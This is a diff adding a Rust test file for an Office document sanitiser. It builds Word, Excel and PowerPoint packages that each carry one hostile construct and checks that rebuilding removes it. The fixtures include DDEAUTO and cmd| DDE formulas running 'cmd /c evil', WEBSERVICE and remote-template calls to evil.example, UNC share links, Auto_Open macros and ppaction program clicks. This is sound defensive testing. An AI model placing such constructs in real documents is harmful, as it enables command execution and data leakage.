@@ -1,0 +1,434 @@
+//! Hostile documents, generated: each holds one thing that must not cross, and a text that must.
+
+use super::*;
+use crate::package::Package;
+use crate::zip_writer::{Method, ZipFile};
+use crate::{FontFace, markup};
+use mail::PartPath;
+use policy::Limits;
+use std::sync::Arc;
+
+struct Nothing;
+
+impl Surroundings for Nothing {
+    fn begin(&mut self, _: &PartPath) {}
+
+    fn font(&mut self, _: FontFace) -> Option<(Arc<Vec<u8>>, u32)> {
+        None
+    }
+}
+
+const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const NAMES: &str = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' \
+    xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main' \
+    xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' \
+    xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' \
+    xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' \
+    xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006' \
+    xmlns:wp='http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing' \
+    xmlns:pic='http://schemas.openxmlformats.org/drawingml/2006/picture' \
+    xmlns:v='urn:schemas-microsoft-com:vml' xmlns:o='urn:schemas-microsoft-com:office:office' \
+    xmlns:c='http://schemas.openxmlformats.org/drawingml/2006/chart' \
+    xmlns:x14='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main' \
+    xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' \
+    xmlns:p14='http://schemas.microsoft.com/office/powerpoint/2010/main' xmlns:evil='urn:evil'";
+
+/// Where a piece of markup goes.
+#[derive(Clone, Copy)]
+enum Into {
+    /// Body of a Word document.
+    Body,
+    /// Its settings.
+    Settings,
+    /// Cells of a sheet (rows).
+    Rows,
+    /// Behind the cells of a sheet.
+    Sheet,
+    /// Behind the sheets of a workbook.
+    Book,
+    /// Shapes of a slide.
+    Shapes,
+    /// Behind the shapes of a slide.
+    Slide,
+    /// Behind the slides of a presentation.
+    Show,
+}
+
+/// A document with one thing in it.
+struct Case {
+    name: &'static str,
+    into: Into,
+    markup: &'static str,
+    /// Id, end of the type, target; external where it is an address.
+    relationship: Option<(&'static str, &'static str, &'static str)>,
+    /// Words of which nothing may be left.
+    gone: &'static [&'static str],
+}
+
+const fn case(
+    name: &'static str,
+    into: Into,
+    markup: &'static str,
+    relationship: Option<(&'static str, &'static str, &'static str)>,
+    gone: &'static [&'static str],
+) -> Case {
+    Case { name, into, markup, relationship, gone }
+}
+
+fn add(file: &mut ZipFile, name: &str, text: &str) {
+    file.add(name, text.as_bytes(), Method::Deflated).unwrap();
+}
+
+fn relationships(list: &[(&str, &str, &str)]) -> String {
+    let mut text =
+        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>".to_owned();
+    for (id, kind, target) in list {
+        let outside = target.contains("://")
+            || target.contains('\\')
+            || target.starts_with("mailto:")
+            || target.contains(":x");
+        let mode = if outside { " TargetMode='External'" } else { "" };
+        text.push_str(&format!("<Relationship Id='{id}' Type='{OFFICE}/{kind}' Target='{target}'{mode}/>"));
+    }
+    text.push_str("</Relationships>");
+    text
+}
+
+/// Builds the document of a case; `foreign` is the part that a relationship may lead to.
+fn document(case: &Case) -> Vec<u8> {
+    let (main, main_type, own) = match case.into {
+        Into::Body | Into::Settings => {
+            ("word/document.xml", "wordprocessingml.document", "word/document.xml")
+        }
+        Into::Rows | Into::Sheet => ("xl/workbook.xml", "spreadsheetml.sheet", "xl/worksheets/sheet1.xml"),
+        Into::Book => ("xl/workbook.xml", "spreadsheetml.sheet", "xl/workbook.xml"),
+        Into::Shapes | Into::Slide => {
+            ("ppt/presentation.xml", "presentationml.presentation", "ppt/slides/slide1.xml")
+        }
+        Into::Show => ("ppt/presentation.xml", "presentationml.presentation", "ppt/presentation.xml"),
+    };
+    let own = if matches!(case.into, Into::Settings) { "word/settings.xml" } else { own };
+    let base = "application/vnd.openxmlformats-officedocument";
+    let mut file = ZipFile::new();
+    let parts = [
+        (main, format!("{main_type}.main")),
+        ("word/settings.xml", "wordprocessingml.settings".to_owned()),
+        ("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet".to_owned()),
+        ("ppt/slides/slide1.xml", "presentationml.slide".to_owned()),
+    ];
+    let overrides: String = parts
+        .iter()
+        .map(|(name, kind)| format!("<Override PartName='/{name}' ContentType='{base}.{kind}+xml'/>"))
+        .collect();
+    add(
+        &mut file,
+        "[Content_Types].xml",
+        &format!(
+            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='rels' \
+             ContentType='application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='bin' \
+             ContentType='application/vnd.ms-office.vbaProject'/><Default Extension='xml' \
+             ContentType='application/xml'/>{overrides}</Types>"
+        ),
+    );
+    add(
+        &mut file,
+        "_rels/.rels",
+        &relationships(&[("rId1", "officeDocument", main), ("rId9", "vbaProject", "foreign.bin")]),
+    );
+    let mut of_main = match main {
+        "word/document.xml" => vec![("rId1", "settings", "settings.xml")],
+        "xl/workbook.xml" => vec![("rId1", "worksheet", "worksheets/sheet1.xml")],
+        _ => vec![("rId1", "slide", "slides/slide1.xml")],
+    };
+    let mut of_own = Vec::new();
+    if let Some(relationship) = case.relationship {
+        if own == main { of_main.push(relationship) } else { of_own.push(relationship) }
+    }
+    add(&mut file, &crate::package::relationships::part_of(main), &relationships(&of_main));
+    if !of_own.is_empty() {
+        add(&mut file, &crate::package::relationships::part_of(own), &relationships(&of_own));
+    }
+    add_parts(&mut file, case, main);
+    for name in [
+        "foreign.bin",
+        "word/foreign.bin",
+        "xl/foreign.bin",
+        "xl/worksheets/foreign.bin",
+        "ppt/slides/foreign.bin",
+        "word/foreign.xml",
+    ] {
+        file.add(name, b"<evil>foreignoctets</evil>", Method::Deflated).unwrap();
+    }
+    file.finish().unwrap()
+}
+
+fn add_parts(file: &mut ZipFile, case: &Case, main: &str) {
+    let here = |into: Into| {
+        if std::mem::discriminant(&into) == std::mem::discriminant(&case.into) { case.markup } else { "" }
+    };
+    match main {
+        "word/document.xml" => {
+            let body = here(Into::Body);
+            let text = format!(
+                "<w:document {NAMES}><w:body><w:p><w:r><w:t>kept</w:t></w:r></w:p>{body}</w:body></w:document>"
+            );
+            add(file, main, &text);
+            add(
+                file,
+                "word/settings.xml",
+                &format!("<w:settings {NAMES}>{}</w:settings>", here(Into::Settings)),
+            );
+        }
+        "xl/workbook.xml" => {
+            let sheets = "<x:sheets><x:sheet name='One' sheetId='1' r:id='rId1'/></x:sheets>";
+            add(file, main, &format!("<x:workbook {NAMES}>{sheets}{}</x:workbook>", here(Into::Book)));
+            let kept = "<x:row r='1'><x:c r='A1' t='inlineStr'><x:is><x:t>kept</x:t></x:is></x:c></x:row>";
+            let (rows, behind) = (here(Into::Rows), here(Into::Sheet));
+            let text =
+                format!("<x:worksheet {NAMES}><x:sheetData>{kept}{rows}</x:sheetData>{behind}</x:worksheet>");
+            add(file, "xl/worksheets/sheet1.xml", &text);
+        }
+        _ => {
+            let slides = "<p:sldIdLst><p:sldId id='256' r:id='rId1'/></p:sldIdLst>";
+            add(
+                file,
+                main,
+                &format!("<p:presentation {NAMES}>{slides}{}</p:presentation>", here(Into::Show)),
+            );
+            let kept = "<p:sp><p:txBody><a:p><a:r><a:t>kept</a:t></a:r></a:p></p:txBody></p:sp>";
+            let (shapes, behind) = (here(Into::Shapes), here(Into::Slide));
+            let text = format!(
+                "<p:sld {NAMES}><p:cSld><p:spTree>{kept}{shapes}</p:spTree></p:cSld>{behind}</p:sld>"
+            );
+            add(file, "ppt/slides/slide1.xml", &text);
+        }
+    }
+}
+
+fn run(octets: &[u8]) -> (Result<Rewritten, FindingCode>, Findings) {
+    let (mut budget, mut findings) = (Budget::new(&Limits::STANDARD), Findings::new());
+    let policy = Policy::standard();
+    let rewritten = rebuild(octets, &policy, Fidelity::Full, &mut budget, &mut findings, &mut Nothing);
+    (rewritten, findings)
+}
+
+/// Names and contents of all members.
+fn everything(octets: &[u8]) -> String {
+    let mut budget = Budget::new(&Limits::STANDARD);
+    let mut package = Package::open(octets, &mut budget, &mut Findings::new()).unwrap();
+    let names: Vec<String> = package.names().map(str::to_owned).collect();
+    let mut all = String::new();
+    for name in names {
+        let member = package.read(&name, &mut budget).unwrap().unwrap();
+        assert!(!name.ends_with(".xml") || markup_is_sound(&name, &member), "{name}");
+        all.push_str(&format!("\n{name}\n{}", String::from_utf8_lossy(&member)));
+    }
+    all
+}
+
+fn markup_is_sound(name: &str, member: &[u8]) -> bool {
+    name == "[Content_Types].xml"
+        || markup::read(member, &DIALECT, &mut Budget::new(&Limits::STANDARD)).is_ok()
+}
+
+#[rustfmt::skip]
+const CASES: &[Case] = &[
+    // Word: parts.
+    case("macros", Into::Body, "", Some(("rId7", "vbaProject", "foreign.bin")), &["vbaProject"]),
+    case("an object", Into::Body, "<w:p><w:r><w:object><o:OLEObject r:id='rId7' ProgID='Package'/></w:object></w:r></w:p>", Some(("rId7", "oleObject", "foreign.bin")), &["OLEObject", "w:object", "oleObject"]),
+    case("a control", Into::Body, "<w:p><w:r><w:control r:id='rId7'/></w:r></w:p>", Some(("rId7", "control", "foreign.bin")), &["control"]),
+    case("altChunk", Into::Body, "<w:altChunk r:id='rId7'/>", Some(("rId7", "aFChunk", "foreign.xml")), &["altChunk", "aFChunk"]),
+    case("a subdocument", Into::Body, "<w:subDoc r:id='rId7'/>", Some(("rId7", "subDocument", "http://evil.example/x.docx")), &["subDoc", "evil.example"]),
+    case("a template", Into::Settings, "<w:attachedTemplate r:id='rId7'/>", Some(("rId7", "attachedTemplate", "http://evil.example/x.dotm")), &["attachedTemplate", "evil.example"]),
+    case("mail merge", Into::Settings, "<w:mailMerge><w:dataSource r:id='rId7'/><w:query w:val='SELECT evil'/></w:mailMerge>", Some(("rId7", "mailMergeSource", "file:///c:/evil.mdb")), &["mailMerge", "evil"]),
+    case("an XSLT", Into::Settings, "<w:saveThroughXslt r:id='rId7'/>", Some(("rId7", "transform", "http://evil.example/x.xsl")), &["evil", "Xslt"]),
+    case("document variables", Into::Settings, "<w:docVars><w:docVar w:name='evil' w:val='payload'/></w:docVars>", None, &["docVar", "payload"]),
+    case("revision marks", Into::Settings, "<w:rsids><w:rsidRoot w:val='00AABBCC'/></w:rsids>", None, &["AABBCC"]),
+    case("update on opening", Into::Settings, "<w:updateFields w:val='true'/>", None, &["updateFields"]),
+    case("custom XML", Into::Body, "<w:customXml w:uri='urn:evil' w:element='x'><w:p><w:r><w:t>inner</w:t></w:r></w:p></w:customXml>", Some(("rId7", "customXml", "foreign.xml")), &["customXml", "urn:evil"]),
+    case("data binding", Into::Body, "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/evil' w:storeItemID='{1}'/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>", None, &["dataBinding", "evil"]),
+    case("a font file", Into::Body, "", Some(("rId7", "font", "foreign.bin")), &["/font"]),
+    case("a glossary", Into::Body, "", Some(("rId7", "glossaryDocument", "foreign.xml")), &["glossary"]),
+    case("web settings", Into::Body, "", Some(("rId7", "webSettings", "foreign.xml")), &["webSettings"]),
+    case("a part of another type", Into::Body, "", Some(("rId7", "styles", "foreign.bin")), &["styles"]),
+    case("a header that is none", Into::Body, "<w:sectPr><w:headerReference w:type='default' r:id='rId7'/></w:sectPr>", Some(("rId7", "header", "foreign.bin")), &["headerReference"]),
+    case("a picture elsewhere", Into::Body, "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri='x'><pic:pic><pic:blipFill><a:blip r:link='rId7'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>", Some(("rId7", "image", "http://evil.example/x.png")), &["evil.example", "r:link"]),
+    case("a picture that is none", Into::Body, "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri='x'><pic:pic><pic:blipFill><a:blip r:embed='rId7'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>", Some(("rId7", "image", "foreign.bin")), &["r:embed", "image"]),
+    case("VML with a source", Into::Body, "<w:p><w:r><w:pict><v:shape style='width:9pt;height:9pt'><v:imagedata src='http://evil.example/a.png' o:href='file:///evil'/></v:shape></w:pict></w:r></w:p>", None, &["evil", "v:"]),
+    // Word: fields.
+    case("DDEAUTO", Into::Body, "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/c evil\"'><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>", None, &["DDE", "evil"]),
+    case("DDE over runs", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "fldChar", "evil"]),
+    case("a verb that is built", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText> evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "fldChar", "evil"]),
+    case("a verb that goes on", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DATE</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "evil"]),
+    case("a verb with text in it", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DATE </w:instrText></w:r><w:r><w:t>x</w:t></w:r><w:ins><w:r><w:instrText>evil</w:instrText></w:r></w:ins><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "evil"]),
+    case("INCLUDETEXT", Into::Body, "<w:p><w:fldSimple w:instr='INCLUDETEXT \"\\\\\\\\evil\\\\x\"'/></w:p>", None, &["INCLUDE", "evil"]),
+    case("INCLUDEPICTURE", Into::Body, "<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example/x\" \\d'/></w:p>", None, &["INCLUDE", "evil"]),
+    case("LINK", Into::Body, "<w:p><w:fldSimple w:instr='LINK Excel.Sheet evil'/></w:p>", None, &["LINK", "evil"]),
+    case("MACROBUTTON", Into::Body, "<w:p><w:fldSimple w:instr='MACROBUTTON Evil click'><w:r><w:t>click</w:t></w:r></w:fldSimple></w:p>", None, &["MACROBUTTON", "Evil"]),
+    case("field data", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:fldData>ZXZpbA==</w:fldData></w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["fldData", "ZXZpbA"]),
+    case("an entry macro", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData><w:entryMacro w:val='Evil'/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["entryMacro", "Evil"]),
+    case("a field link to a file", Into::Body, "<w:p><w:fldSimple w:instr='HYPERLINK \"file:///c:/evil.exe\"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", None, &["HYPERLINK", "evil"]),
+    // Word: links.
+    case("a link to a file", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hyperlink"]),
+    case("a link to a share", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "\\\\evil\\x")), &["evil", "hyperlink"]),
+    case("a link that runs", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "ms-word:xofe|u|http://evil.example/")), &["evil", "hyperlink"]),
+    case("a link with a name before the host", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "http://bank.example@evil.example/")), &["evil", "hyperlink"]),
+    case("a place outside", Into::Body, "<w:p><w:hyperlink w:anchor='\\\\evil\\x'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", None, &["evil"]),
+    // Word: markup.
+    case("an unknown namespace", Into::Body, "<evil:thing><w:p/></evil:thing>", None, &["evil"]),
+    case("an unknown attribute", Into::Body, "<w:p evil:onload='x' onload='y' w:evil='z'/>", None, &["evil", "onload"]),
+    case("a comment and an instruction", Into::Body, "<!-- evil --><?mso-application progid='Evil'?><w:p/>", None, &["evil", "mso-"]),
+    case("text between elements", Into::Body, "<w:p>evil<w:r/></w:p>", None, &["evil"]),
+    case("both alternatives", Into::Body, "<w:p><w:r><mc:AlternateContent><mc:Choice Requires='evil'><evil:x/></mc:Choice><mc:Fallback><w:pict><v:shape o:gfxdata='evil'/></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>", None, &["evil", "AlternateContent", "v:"]),
+    // Excel.
+    case("a DDE formula", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>cmd|'/c evil'!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil", "<x:f"]),
+    case("another book", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>[1]Sheet1!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["[1]"]),
+    case("another book by path", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>'\\\\evil\\[b.xlsx]S'!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil"]),
+    case("WEBSERVICE", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>_xlfn.WEBSERVICE(\"http://evil.example/\")</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil", "WEBSERVICE"]),
+    case("CALL, shared", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f t='shared' si='3' ref='A2:A3'>CALL(\"evil\")</x:f><x:v>7</x:v></x:c></x:row><x:row r='3'><x:c r='A3'><x:f t='shared' si='3'/><x:v>8</x:v></x:c></x:row>", None, &["evil", "<x:f"]),
+    case("a link by formula", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>HYPERLINK(\"file:///evil\",1)</x:f><x:v>1</x:v></x:c></x:row>", None, &["evil", "HYPERLINK"]),
+    case("Auto_Open", Into::Book, "<x:definedNames><x:definedName name='_xlnm.Auto_Open'>Evil!$A$1</x:definedName></x:definedNames>", None, &["auto_open", "evil", "definedNames"]),
+    case("a macro by name", Into::Book, "<x:definedNames><x:definedName name='evil' xlm='1' function='1'>One!$A$1</x:definedName><x:definedName name='f' function='1'>One!$A$1</x:definedName></x:definedNames>", None, &["xlm", "function"]),
+    case("a macro sheet", Into::Book, "<x:extLst/>", Some(("rId7", "xlMacrosheet", "foreign.xml")), &["Macrosheet"]),
+    case("external links", Into::Book, "<x:externalReferences><x:externalReference r:id='rId7'/></x:externalReferences>", Some(("rId7", "externalLink", "foreign.xml")), &["external"]),
+    case("connections", Into::Book, "", Some(("rId7", "connections", "foreign.xml")), &["connections"]),
+    case("a property of the book", Into::Book, "<x:fileRecoveryPr repairLoad='1'/>", None, &["fileRecovery"]),
+    case("a query", Into::Sheet, "", Some(("rId7", "queryTable", "foreign.xml")), &["queryTable"]),
+    case("objects on a sheet", Into::Sheet, "<x:oleObjects><x:oleObject progId='Evil' shapeId='1' r:id='rId7'/></x:oleObjects>", Some(("rId7", "oleObject", "foreign.bin")), &["ole", "evil"]),
+    case("controls on a sheet", Into::Sheet, "<x:controls><x:control shapeId='1' r:id='rId7'/></x:controls>", Some(("rId7", "ctrlProp", "foreign.xml")), &["control", "ctrlProp"]),
+    case("a drawing of old", Into::Sheet, "<x:legacyDrawing r:id='rId7'/>", Some(("rId7", "vmlDrawing", "foreign.xml")), &["legacyDrawing", "vml"]),
+    case("printer settings", Into::Sheet, "<x:pageSetup orientation='landscape' r:id='rId7'/>", Some(("rId7", "printerSettings", "foreign.bin")), &["r:id=\"rId7\"", "printer"]),
+    case("a cell link to a file", Into::Sheet, "<x:hyperlinks><x:hyperlink ref='A1' r:id='rId7'/></x:hyperlinks>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hyperlink"]),
+    case("a place on a share", Into::Sheet, "<x:hyperlinks><x:hyperlink ref='A1' location='\\\\evil\\x!A1'/></x:hyperlinks>", None, &["evil", "hyperlink"]),
+    case("a rule that fetches", Into::Sheet, "<x:dataValidations count='1'><x:dataValidation sqref='A1'><x:formula1>WEBSERVICE(\"evil\")</x:formula1></x:dataValidation></x:dataValidations>", None, &["evil", "dataValidation"]),
+    case("a format that fetches", Into::Sheet, "<x:conditionalFormatting sqref='A1'><x:cfRule type='expression' priority='1'><x:formula>[2]evil!A1</x:formula></x:cfRule></x:conditionalFormatting>", None, &["evil", "conditional"]),
+    case("a sparkline from elsewhere", Into::Sheet, "<x:extLst><x:ext uri='{1}'><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]evil!A1</xm:f><xm:sqref>A1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></x:ext></x:extLst>", None, &["evil", "sparkline", "extLst"]),
+    case("published items", Into::Sheet, "<x:webPublishItems count='1'><x:webPublishItem id='1' divId='evil' sourceType='sheet' destinationFile='\\\\evil\\x.htm'/></x:webPublishItems>", None, &["evil", "webPublish"]),
+    case("custom properties of a sheet", Into::Sheet, "<x:customProperties><x:customPr name='evil' r:id='rId7'/></x:customProperties>", Some(("rId7", "customProperty", "foreign.bin")), &["evil", "customPr"]),
+    // PowerPoint.
+    case("a program by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId7' action='ppaction://program'/></p:cNvPr></p:nvSpPr></p:sp>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hlinkClick"]),
+    case("a macro by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='' action='ppaction://macro?name=Evil'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["evil", "ppaction"]),
+    case("an object by hovering", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkHover r:id='' action='ppaction://ole?verb=0'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["ppaction", "hlinkHover"]),
+    case("a file by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId7' action='ppaction://hlinkfile'/></p:cNvPr></p:nvSpPr></p:sp>", Some(("rId7", "hyperlink", "\\\\evil\\x")), &["evil", "hlinkClick"]),
+    case("a link that never was", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId8' invalidUrl='file:///evil'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["evil", "hlinkClick"]),
+    case("an object on a slide", Into::Shapes, "<p:graphicFrame><a:graphic><a:graphicData uri='ole'><p:oleObj progId='Evil' r:id='rId7'><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>", Some(("rId7", "oleObject", "foreign.bin")), &["evil", "oleObj", "graphicFrame"]),
+    case("a control on a slide", Into::Slide, "<p:controls><p:control r:id='rId7' name='Evil'/></p:controls>", Some(("rId7", "control", "foreign.bin")), &["evil", "control"]),
+    case("a sound between slides", Into::Slide, "<p:transition><p:sndAc><p:stSnd><p:snd r:embed='rId7' name='evil.wav'/></p:stSnd></p:sndAc></p:transition>", Some(("rId7", "audio", "foreign.bin")), &["evil", "snd"]),
+    case("a film", Into::Shapes, "<p:pic><p:nvPicPr><p:cNvPr id='9' name='n'/><p:cNvPicPr/><p:nvPr><a:videoFile r:link='rId7'/></p:nvPr></p:nvPicPr></p:pic>", Some(("rId7", "video", "http://evil.example/x.mp4")), &["evil", "videoFile"]),
+    case("an animation that runs an object", Into::Slide, "<p:timing><p:tnLst><p:par><p:cTn id='1'><p:childTnLst><p:cmd type='verb' cmd='0'><p:cBhvr><p:cTn id='2'/></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>", None, &["p:cmd", "p:timing"]),
+    case("customer data", Into::Show, "<p:custDataLst><p:custData r:id='rId7'/></p:custDataLst>", Some(("rId7", "customXml", "foreign.xml")), &["custData", "customXml"]),
+    case("embedded fonts", Into::Show, "<p:embeddedFontLst><p:embeddedFont><p:font typeface='Evil'/><p:regular r:id='rId7'/></p:embeddedFont></p:embeddedFontLst>", Some(("rId7", "font", "foreign.bin")), &["evil", "embeddedFont"]),
+    case("ink", Into::Shapes, "<mc:AlternateContent><mc:Choice Requires='p14'><p:contentPart r:id='rId7'/></mc:Choice><mc:Fallback><p:pic/></mc:Fallback></mc:AlternateContent>", Some(("rId7", "customXml", "foreign.xml")), &["contentPart", "AlternateContent"]),
+];
+
+#[test]
+fn what_must_not_cross_is_gone_and_the_text_is_there() {
+    let mut ran = 0;
+    for case in CASES {
+        let (rewritten, _) = run(&document(case));
+        let rewritten = rewritten.unwrap_or_else(|code| panic!("{}: {code:?}", case.name));
+        let all = everything(&rewritten.octets);
+        let lower = all.to_lowercase();
+        assert!(all.contains("kept"), "{}: the text is lost\n{all}", case.name);
+        for word in case.gone.iter().chain(&["foreign", ".bin", "vbaproject"]) {
+            assert!(!lower.contains(&word.to_lowercase()), "{}: {word} is left\n{all}", case.name);
+        }
+        let (again, findings) = run(&rewritten.octets);
+        assert_eq!(again.map(|again| again.octets), Ok(rewritten.octets), "{}", case.name);
+        assert_eq!(findings.gravest(), policy::Severity::Info, "{}: {findings:?}", case.name);
+        ran += 1;
+    }
+    assert_eq!(ran, 80);
+}
+
+#[test]
+fn what_may_stay_stays() {
+    let cases = [
+        case(
+            "a page number",
+            Into::Body,
+            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
+            None,
+            &["> PAGE <"],
+        ),
+        case(
+            "a frame of a character",
+            Into::Body,
+            "<w:p><w:fldSimple w:instr='eq \\o\\ac(○,印)'/></w:p>",
+            None,
+            &["eq \\o\\ac(○,印)"],
+        ),
+        case(
+            "a frozen field shows its text",
+            Into::Body,
+            "<w:p><w:fldSimple w:instr='DDEAUTO x'><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>",
+            None,
+            &["shown"],
+        ),
+        case(
+            "a link to a page",
+            Into::Body,
+            "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>",
+            Some(("rId7", "hyperlink", "https://example.jp/a")),
+            &["https://example.jp/a\" TargetMode=\"External\"", "<w:hyperlink r:id=\"rId7\">"],
+        ),
+        case(
+            "a value without its formula",
+            Into::Rows,
+            "<x:row r='2'><x:c r='A2'><x:f>[1]a!A1</x:f><x:v>7</x:v></x:c></x:row>",
+            None,
+            &["<x:c r=\"A2\"><x:v>7</x:v></x:c>"],
+        ),
+        case(
+            "a formula",
+            Into::Rows,
+            "<x:row r='2'><x:c r='A2'><x:f>SUM(A1:A1)</x:f><x:v>7</x:v></x:c></x:row>",
+            None,
+            &["<x:f>SUM(A1:A1)</x:f>"],
+        ),
+        case(
+            "text of an old text box",
+            Into::Body,
+            "<w:p><w:r><w:pict><v:shape style='position:absolute;margin-left:9pt;width:90pt;height:40pt'><v:textbox><w:txbxContent><w:p><w:r><w:t>boxed</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
+            None,
+            &["wps:txbx", "boxed", "cx=\"1143000\"", "<wp:posOffset>114300<"],
+        ),
+        case(
+            "a jump between slides",
+            Into::Shapes,
+            "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='' action='ppaction://hlinkshowjump?jump=nextslide'/></p:cNvPr></p:nvSpPr></p:sp>",
+            None,
+            &["jump=nextslide"],
+        ),
+        case(
+            "the picture of an object",
+            Into::Shapes,
+            "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id='8' name='frame'/></p:nvGraphicFramePr><a:graphic><a:graphicData uri='ole'><p:oleObj progId='X'><p:pic><p:nvPicPr><p:cNvPr id='0' name=''/></p:nvPicPr></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>",
+            None,
+            &["<p:pic><p:nvPicPr><p:cNvPr id=\"8\" name=\"frame\"/>"],
+        ),
+    ];
+    let mut ran = 0;
+    for case in &cases {
+        let all = everything(&run(&document(case)).0.unwrap().octets);
+        for word in case.gone {
+            assert!(all.contains(word), "{}: {word} is missing\n{all}", case.name);
+        }
+        ran += 1;
+    }
+    assert_eq!(ran, 9);
+}
+
+#[test]
+fn damage_is_a_verdict() {
+    let whole = document(&CASES[0]);
+    for end in (0..whole.len()).step_by(7) {
+        assert!(run(&whole[..end]).0.is_err(), "{end}");
+    }
+    for at in (0..whole.len()).step_by(3) {
+        let mut flipped = whole.clone();
+        flipped[at] ^= 0x55;
+        let _either = run(&flipped);
+    }
